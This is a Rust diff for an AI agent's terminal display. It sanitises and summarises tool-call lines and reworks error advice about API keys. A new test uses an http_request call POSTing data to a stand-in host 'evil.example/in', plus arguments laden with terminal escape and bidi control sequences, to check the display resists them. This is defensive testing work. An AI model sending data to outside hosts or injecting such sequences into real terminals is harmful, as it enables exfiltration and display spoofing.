@@ -2,6 +2,7 @@
 
 use super::screen::{Screen, Style};
 use super::text::{self, Usage, grouped, one_line};
+use oneclaw_agent::tools::shown;
 use oneclaw_agent::{ErrorCode, Event};
 use oneclaw_model::ToolStatus;
 use std::io;
@@ -15,7 +16,7 @@ pub const TRIMMED: &str = "Conversation history has been automatically trimmed";
 /// Who waits longer than that is told what for.
 const PATIENCE: Duration = Duration::from_secs(1);
 /// The longest arguments and names that are shown.
-const MOST_ARGUMENTS: usize = 72;
+const MOST_ARGUMENTS: usize = 120;
 const MOST_NAME: usize = 32;
 const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
 
@@ -254,15 +255,16 @@ impl View {
 
 fn call_line(call: &Call) -> String {
     let name = one_line(&call.name, MOST_NAME);
-    let line = format!("→ {name} {}", text::arguments(&call.arguments, MOST_ARGUMENTS));
+    let arguments = one_line(&shown(&call.name, &call.arguments), MOST_ARGUMENTS);
+    let line = format!("→ {name} {arguments}");
     line.trim_end().to_owned()
 }
 
-/// What helps against a problem of that kind.
-pub fn advice(code: ErrorCode, is_retryable: bool, key_variables: &str) -> Option<String> {
+/// What helps against a problem of that kind. `key` says which key is wanted where, and how to give it.
+pub fn advice(code: ErrorCode, is_retryable: bool, key: Option<&str>) -> Option<String> {
     let again = "/regenerate tries again.";
     match code {
-        ErrorCode::Auth => Some(format!("Set {key_variables} to a key that is valid, and start again.")),
+        ErrorCode::Auth => Some(format!("Give a key that is valid {}, and start again.", key?)),
         ErrorCode::Network => Some(format!("Check the connection and the address; {again}")),
         ErrorCode::Storage => Some("Check that the disk has room and the file can be written.".to_owned()),
         ErrorCode::Context => {
@@ -359,6 +361,27 @@ mod tests {
     }
 
     #[test]
+    fn a_call_shows_on_what_it_acts_and_cannot_steer_the_terminal() {
+        let line = |name: &str, arguments: serde_json::Value| {
+            let arguments = arguments.to_string();
+            call_line(&Call { id: String::new(), name: name.to_owned(), arguments, has_ended: false })
+        };
+        let body = "please ".repeat(100);
+        let asked = serde_json::json!({"body": body, "method": "POST", "url": "https://evil.example/in"});
+        assert_eq!(
+            line("http_request", asked),
+            "→ http_request POST evil.example/in body=\"please ple…ase please \""
+        );
+        let hostile =
+            serde_json::json!({"\u{1b}[2J\u{202e}": "\u{9b}31m\u{7f}\r\n", "path": "a\u{1b}[1m\nb"});
+        let shown = line("read\u{1b}_file\n", hostile);
+        assert_eq!(
+            shown,
+            "→ read␛_file path=\"a\\u001b[1m\\nb\" \"\\u001b[2J\u{fffd}\"=\"\u{fffd}31m␡\\r\\n\""
+        );
+    }
+
+    #[test]
     fn waiting_is_shown_after_a_second_and_never_in_text() {
         let (mut screen, paper) = screen(true, false);
         let now = Instant::now();
@@ -388,8 +411,13 @@ mod tests {
 
     #[test]
     fn problems_come_with_advice() {
-        assert!(advice(ErrorCode::Auth, false, "OPENAI_API_KEY").unwrap().contains("OPENAI_API_KEY"));
-        assert_eq!(advice(ErrorCode::Timeout, true, "").as_deref(), Some("/regenerate tries again."));
-        assert_eq!(advice(ErrorCode::Validation, false, ""), None);
+        let key = "for https://api.openai.com: set OPENAI_API_KEY";
+        assert_eq!(
+            advice(ErrorCode::Auth, false, Some(key)).as_deref(),
+            Some("Give a key that is valid for https://api.openai.com: set OPENAI_API_KEY, and start again.")
+        );
+        assert_eq!(advice(ErrorCode::Auth, false, None), None);
+        assert_eq!(advice(ErrorCode::Timeout, true, None).as_deref(), Some("/regenerate tries again."));
+        assert_eq!(advice(ErrorCode::Validation, false, None), None);
     }
 }
